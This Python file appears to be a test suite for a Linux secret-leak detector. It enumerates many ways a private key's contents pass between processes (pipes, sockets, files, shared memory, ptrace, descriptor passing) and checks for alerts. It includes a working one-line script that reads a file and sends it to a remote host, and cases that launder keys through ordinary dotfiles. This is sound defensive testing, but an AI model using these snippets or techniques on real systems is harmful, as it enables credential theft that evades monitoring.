# SPDX-License-Identifier: GPL-2.0-or-later
"""H03-H07, G10, G11, G15: the secret goes to processes that share with the one that opened it only a pipe, a socket, a
file or memory, or the permission to access the other's memory and descriptors."""

import base64
import binascii
import os
import shutil
import subprocess
import sys
import zlib
from types import SimpleNamespace

import harness
from harness import program, truths
from net import HOST_V4
from play import SSH, programs, write
from tap import require, require_equal


def gunzip(data):
    try:
        return zlib.decompress(data, wbits=31)
    except zlib.error:
        return b""


def unbase64(data):
    try:
        return base64.b64decode(data, validate=True)
    except binascii.Error:
        return b""


PIPES = {
    "plain": "to a sibling", "blocked": "to a reader that waits in read",
    "blocked-readv": "to a reader that waits in readv", "dead": "from a writer that has exited",
    "writev": "by writev and readv", "cat": "cat key | thief",
    "cat-gzip": "cat key | gzip | thief", "three": "through a third process", "three-tee": "through tee(2)",
    "three-splice": "through splice(2)", "longest": "through seven other processes",
    "splice-in": "spliced from the file",
    "sendfile-in": "by sendfile from the file", "vmsplice-in": "by vmsplice",
    "proc-fd": "by /proc/PID/fd",
    "connected": "sent on a connection that existed before",
    "splice-out": "pages spliced to a connection that existed before",
    "blocked-splice": "pages for which it waited to a connection that existed before",
}
SOCKETS = {
    "pair-stream": "a pair, stream", "pair-dgram": "a pair, datagram", "pair-seqpacket": "a pair, seqpacket",
    "pair-sendmmsg": "a pair, sendmmsg", "pair-sendfile": "a pair, sendfile from the file",
    "pair-dead": "a pair, the writer has exited", "pair-peek": "a pair, only peeked at",
    "blocked-stream": "a pair, the reader waits in read", "blocked-dgram": "a pair, the reader waits in recvfrom",
    "blocked-seqpacket": "a pair, the reader waits in recvmsg", "path-stream": "unix stream",
    "path-stream-served": "unix stream, fetched by the other side", "path-dgram": "unix datagram",
    "path-sendto": "unix datagram, sendto", "path-sendmsg": "unix datagram, sendmsg",
    "abstract-stream": "abstract stream", "abstract-dgram": "abstract datagram",
    "abstract-sendto": "abstract datagram, sendto",
}
LOOPBACK = {
    "tcp4": "TCP, accepted", "tcp6": "TCP over IPv6, accepted", "tcp-own": "TCP to an address of an interface",
    "tcp-dead": "TCP, the sender has exited", "tcp-multipath": "multipath TCP",
    "tcp-served": "TCP, fetched by the other side", "tcp-self": "a TCP socket connected to itself",
    "tcp-early": "a connection that existed before, the reader waits",
    "tcp-message": "sendmsg, the reader waits in recvmsg",
    "tcp-sendfile": "sendfile from the file", "tcp-splice": "splice from the file, and from the connection",
    "udp-sniffed": "UDP, read by a packet socket", "echo": "an echo request, read by a raw socket",
    "tcp-relay": "TCP, through a third process", "tcp-both": "TCP, from a server that has it by a pipe, too",
    "udp4": "UDP, connected", "udp6": "UDP over IPv6, the reader waits", "udp-sendto": "UDP, sendto",
    "udp-sendto6": "UDP over IPv6, sendto", "udp-sendmsg": "UDP, sendmsg",
}
FILES = {
    "plain": "written, read by another process", "dead": "the writer has exited", "append": "appended",
    "pwrite": "by pwrite", "written-early": "opened by the writer before the secret", "mapped": "through a mapping",
    "sendfile": "by sendfile", "copy-file-range": "by copy_file_range", "clone": "cloned",
    "rename": "renamed afterwards",
    "link": "linked, the first name removed", "nameless": "written without a name (O_TMPFILE)",
    "overlay-above": "written in an overlay, read in its upper layer",
    "overlay-mapped": "mapped in an overlay, read in its upper layer",
    "overlay-below": "written in the upper layer of an overlay, read in it",
    "overlay-lowest": "written in the lower layer of an overlay, read in it",
    "overlay-copied-up": "written in the lower layer of an overlay, which copies it, read there",
    "cp": "cp", "cp-cp": "cp twice",
    "tar": "tar", "gzip": "gzip", "base64": "base64", "opened-early": "opened by the reader before",
    "taken-mapped": "mapped by the reader", "taken-sendfile": "sent by sendfile",
}
OTHERS = {
    "queue-sysv": "H04 a message queue, System V", "queue-posix": "H04 a message queue, POSIX",
    "queue-sysv-blocked": "H04 a message queue, System V, the reader waits",
    "queue-posix-blocked": "H04 a message queue, POSIX, the reader waits",
    "terminal": "H04 a terminal", "terminal-blocked": "H04 a terminal, the reader waits",
    "terminal-typed": "H04 a terminal, typed", "terminal-two": "H04 two terminals, as below sudo(8)",
    "semaphores": "H04 the values of semaphores, System V", "netlink": "H04 netlink, from process to process",
    "netlink-blocked": "H04 netlink, from process to process, the reader waits",
    "log": "H04 the kernel's log, /dev/kmsg", "log-call": "H04 the kernel's log, syslog(2)",
    "log-proc": "H04 the kernel's log, /proc/kmsg",
    "core": "H05 file: a core file",
    "attribute": "H05 an extended attribute", "link": "H05 a symbolic link's target",
    "name": "H05 a file's name", "key": "H06 a key in a keyring",
}
COMPAT = {
    "send": "H04 a pair, by a 32-bit program", "send-blocked": "H04 a pair, by a 32-bit program that waits",
    "scm": "G10 a descriptor passed by a 32-bit program",
    "queue": "H04 a message queue, System V, by a 32-bit program",
    "queue-blocked": "H04 a message queue, System V, by a 32-bit program that waits",
    "memory": "H06 memory: System V, by a 32-bit program",
    "memory-early": "H06 memory: System V, attached before by a 32-bit program",
}
CALLS = {
    "aio-write": "H03 pipe: written by io_submit", "aio-read": "H03 pipe: read by io_submit",
    "aio-read-blocked": "H03 pipe: to a reader that waits in io_submit",
    "vmsplice": "H03 pipe: read by vmsplice", "vmsplice-blocked": "H03 pipe: to a reader that waits in vmsplice",
    "late-descriptor": "G10 a descriptor in the last of a hundred messages",
    "answer": "G10 a descriptor as the answer of a seccomp supervisor",
}
LATE = {
    "lent": "H03 pipe: pages that are in it before the secret is in them",
    "uring": "H06 memory: the ring of an io_uring, mapped by both",
    "uring-early": "H06 memory: the ring of an io_uring, mapped by both before",
    "aio-early": "H06 memory: the ring of io_setup, inherited by both",
    "packets-early": "H06 memory: the ring of a packet socket, mapped by both before",
    "private-early": "H06 memory: a file, mapped by the taker before and privately, written",
    "bound": "H04 a pair, stream, of which one end gets a name before it reads",
    "program": "H05 file: a program that has it in itself",
}
DECODE = {"cat-gzip": gunzip, "gzip": gunzip, "base64": unbase64}
MEMORY = {
    "memfd-inherited": "an inherited memfd", "memfd-proc": "a memfd, by /proc/PID/fd",
    "memfd-passed": "a memfd, passed", "memfd": "a memfd, mapped",
    "memfd-taker-early": "a memfd, mapped by the taker before",
    "memfd-early": "a memfd, mapped by both before", "memfd-written": "a memfd, mapped by the taker before, written",
    "posix": "shm_open", "sysv": "System V",
    "sysv-taker-early": "System V, attached by the taker before", "sysv-early": "System V, attached by both before",
    "file": "a file, mapped by both", "file-taker-early": "a file, mapped by the taker before",
    "file-early": "a file, mapped by both before", "anonymous-early": "anonymous, inherited by both",
    "zero-early": "/dev/zero, inherited by both",
    "anonymous-lent": "anonymous, by /proc/PID/map_files", "sysv-lent": "System V, by /proc/PID/map_files",
    "faults": "page faults that another process handles",
}


def last_bytes(stage):
    key, secret = stage.home.key()
    stage.theft("hand-late", "script", make_key=lambda: (key, secret[-32:]))


def nothing(stage, name, variant="nothing"):
    key, _ = stage.home.key()
    truth, = truths(stage.play(name, variant, key))
    stage.net.sink.wait_arrived(b"nothing of %d" % truth.sender)
    stage.expect_silence(truth.sender, "nothing was handed on")


def prepare(net, home, directory):
    exes = programs(home, printer=shutil.which("cat"), clean=shutil.which("cat"), creator=shutil.which("cp"),
                    writer=shutil.which("cp"),
                    opener=program("technique-get-passed"), carrier=program("technique-hand-pipe"))
    write(os.path.join(directory, "92-flow.conf"),
          harness.policy_allow("test-printer", exes["printer"], [SSH], [HOST_V4 + ":443"])
          + harness.policy_allow("test-creator", exes["creator"], [SSH], [HOST_V4 + ":443"], "output children")
          + harness.policy_allow("test-clean", exes["clean"], [SSH], [HOST_V4 + ":443"], "files children")
          + f"[Carrier test-own]\nExe={exes['writer']}\nPath=~/.own-history\nOwn=yes\n"
          + f"[Carrier test-carrier]\nExe={exes['carrier']}\n"
          + f"[Carrier test-quiet]\nPath={os.fsdecode(home.root)}/quiet/*/relay.*\n"
          + harness.policy_allow("test-opener", exes["opener"], [SSH], passes="nothing"))
    return exes


def silent(stage, name, variant, command=(), directory="scratch"):
    key, secret = stage.home.key()
    truth, = truths(stage.play(name, variant, key, directory=directory,
                               command=command and [*command, variant, key, HOST_V4, "443"]))
    stage.net.sink.wait_arrived(secret)
    stage.expect_silence(truth.sender, variant)


# Reads a file, and sends what is in it.
SEND_FILE = ("import socket, sys; data = open(sys.argv[2], 'rb').read(); "
             "sock = socket.create_connection((sys.argv[1], 443)); sock.sendall(data); sock.shutdown(socket.SHUT_WR); "
             "sock.recv(1)")


def laundered(stage, place, writer, quiet=False):
    """A copy in a file that other programs read all the time: its own program may write there, a thief may not."""
    key, secret = stage.home.key()
    copy = os.path.join(stage.home.root, b"home/ana", place.encode())
    os.makedirs(os.path.dirname(copy), exist_ok=True)
    try:
        subprocess.run([*writer, key, copy], check=True)
        sender = stage.net.popen([sys.executable, "-c", SEND_FILE, HOST_V4, copy])
        require_equal(sender.wait(), 0, "the sender")
        stage.net.sink.wait_arrived(secret)
        if quiet:
            stage.expect_silence(sender.pid, f"written by the program whose file {place} is")
            return
        stage.find(SimpleNamespace(sender=sender.pid), lambda path: path == harness.as_text(key), lambda alert: True,
                   f"by way of {place}")
    finally:
        os.unlink(copy)


# A service with a socket for everybody, which reads a line and then goes about its own business.
SERVICE = ("import socket, sys; server = socket.socket(socket.AF_UNIX); server.bind('\\0' + sys.argv[2]); "
           "server.listen(); print('listening', flush=True); server.accept()[0].recv(4096); "
           "socket.create_connection((sys.argv[1], 443)).sendall(b'of its own')")
# A user opens a file of theirs, and sends a line to it.
CLIENT = ("import os, socket, sys; os.setresuid(65534, 65534, 65534); open(sys.argv[2]).read(); "
          "client = socket.socket(socket.AF_UNIX); client.connect('\\0' + sys.argv[1]); client.sendall(b'a line\\n')")


def framed(stage):
    """The alert of the service says that another user may have caused it, and is a weak one."""
    key, _ = stage.home.key()
    name = os.path.basename(key).decode()
    os.chown(key, 65534, 65534)
    os.chmod(stage.home.ssh, 0o711)
    service = stage.net.popen([sys.executable, "-c", SERVICE, HOST_V4, name], stdout=subprocess.PIPE, text=True)
    require_equal(service.stdout.readline(), "listening\n", "the service")
    client = stage.net.popen([sys.executable, "-c", CLIENT, name, name], cwd=stage.home.ssh)
    require_equal((client.wait(), service.wait()), (0, 0), "both")
    alert = stage.bw.wait_alert(lambda a: a["process"]["pid"] == service.pid, "of the service")
    require_equal(alert["files"][0]["uid"], 65534, "user")
    require([r for r in alert["reasons"] if "uid 65534" in r["text"] and r["points"] == -45], f"{alert['reasons']}")
    require(alert["severity"] != "high", f"severity: {alert}")
    require("perhaps to frame it" in alert["summary"], alert["summary"])


def part(t, stage, exes):
    t.case("S14 a line to the socket of another user's service", framed, stage)
    for place in (".lesshst", ".ssh/known_hosts2", ".local/share/recently-used.xbel"):
        t.case(f"H05 file: cp to ~/{place}", laundered, stage, place, ["cp"])
    t.case("H05 honest: a file written by the program whose own it is", laundered, stage, ".own-history",
           [exes["writer"]], quiet=True)
    t.case("H05 file: the same file, written by another program", laundered, stage, ".own-history", ["cp"])
    for row, name, variants in (("H03 pipe", "hand-pipe", PIPES), ("H04", "hand-socket", SOCKETS),
                                ("H10", "hand-loopback", LOOPBACK),
                                ("H05 file:", "hand-file", FILES), ("H06 memory:", "hand-memory", MEMORY)):
        for variant, what in variants.items():
            t.case(f"{row} {what}", stage.theft, name, variant, decode=DECODE.get(variant))
    for variant, what in CALLS.items():
        t.case(what, stage.theft, "hand-calls", variant)
    for variant, what in LATE.items():
        t.case(what, stage.theft, "hand-late", variant)
    t.case("H05 a file that the giver serves by FUSE", stage.theft, "hand-served", "fuse")
    t.case("H05 file: a script, whose first line has it", last_bytes, stage)
    for variant, what in COMPAT.items():
        t.case(what, stage.theft, "hand-compat", variant)
    for variant, what in OTHERS.items():
        t.case(what, stage.theft, "hand-kernel", variant)
    t.case("H03 honest: nothing is handed on", nothing, stage, "hand-pipe")
    t.case("H03 honest: another writer, by io_submit", nothing, stage, "hand-calls", "aio-second")
    t.case("H03 honest: another writer, by vmsplice", nothing, stage, "hand-calls", "vmsplice-second")
    t.case("H06 honest: a file that both map to read", nothing, stage, "hand-memory")
    t.case("H04 honest: a terminal, back to the processes that had it", silent, stage, "hand-kernel",
           "terminal-returned")
    t.case("H04 honest: terminals created later", nothing, stage, "hand-kernel", "terminal-new")
    t.case("H04 honest: socket pairs created later", nothing, stage, "hand-socket", "pairs-new")
    t.case("H10 honest: another client of a server that was sent it", nothing, stage, "hand-loopback")
    t.case("H04 FIFO", stage.theft, "hand-pipe", "fifo")
    for variant, what in (("vm-write", "process_vm_writev"), ("poke", "PTRACE_POKEDATA"),
                          ("mem-write", "/proc/PID/mem, written"),
                          ("set-values", "PTRACE_SETSIGINFO"), ("set-results", "PTRACE_SET_SYSCALL_INFO")):
        t.case(f"H07 {what}", stage.theft, "hand-trace", variant)
    for variant, what in (("vm-read", "process_vm_readv"), ("peek", "PTRACE_PEEKDATA"),
                          ("signals", "PTRACE_PEEKSIGINFO"), ("values", "PTRACE_GETSIGINFO"),
                          ("calls", "PTRACE_GET_SYSCALL_INFO"), ("masks", "PTRACE_GETSIGMASK"),
                          ("calls-early", "PTRACE_GET_SYSCALL_INFO by who traced it before"),
                          ("mem-read", "/proc/PID/mem, read")):
        t.case(f"G11 {what}", stage.theft, "hand-trace", variant)
    t.case("H01 memory shared by clone(CLONE_VM)", stage.theft, "hand-memory", "vm")
    t.case("H01 descriptors shared by clone(CLONE_FILES)", stage.theft, "get-passed", "files")
    t.case("G10 a descriptor passed by the process that opened it", stage.theft, "get-passed", "scm")
    t.case("G11 pidfd_getfd", stage.theft, "get-passed", "pidfd")
    t.case("G10 a descriptor from the kernel, by fanotify", stage.theft, "get-passed", "watch")
    t.case("G10 a descriptor from the kernel, by fanotify, read by readv", stage.theft, "get-passed", "watch-parts")
    t.case("G11 opened by /proc/PID/fd", stage.theft, "get-passed", "proc-fd")
    t.case("H03 honest: a pipe, beyond MaxHops=", silent, stage, "hand-pipe", "too-long")
    t.case("H04 honest: a socket whose path a [Carrier] names", silent, stage, "hand-socket", "path-stream",
           directory="quiet")
    for variant in ("plain", "mapped", "taken-mapped"):
        t.case(f"H05 honest: a file whose path a [Carrier] names, {FILES[variant]}", silent, stage, "hand-file",
               variant, directory="quiet")
    if not harness.sees_host():
        return
    t.case("G10 a descriptor passed by an allowed program", stage.theft, "get-passed", f"scm:{exes['opener']}")
    t.case("G10 a descriptor received by a multishot request of io_uring", stage.theft, "get-passed",
           f"multishot:{exes['opener']}")
    t.case("G11 pidfd_getfd from an allowed program", stage.theft, "get-passed", f"pidfd:{exes['opener']}")
    t.case("G15 an allowed program prints to a pipe", stage.theft, "hand-pipe", f"print:{exes['printer']}")
    t.case("G15 an allowed program prints to a unix socket", stage.theft, "hand-pipe",
           f"print-socket:{exes['printer']}")
    t.case("G15 an allowed program prints to a file", stage.theft, "hand-file", f"print:{exes['printer']}")
    t.case("G15 honest: an allowed program creates a file of its own", silent, stage, "hand-file",
           f"create:{exes['creator']}")
    t.case("G15 honest: an allowed program without Passes=output", silent, stage, "hand-pipe", f"print:{exes['clean']}")
    t.case("H03 honest: the reader is a [Carrier]", silent, stage, "hand-pipe", "plain", [exes["carrier"]])
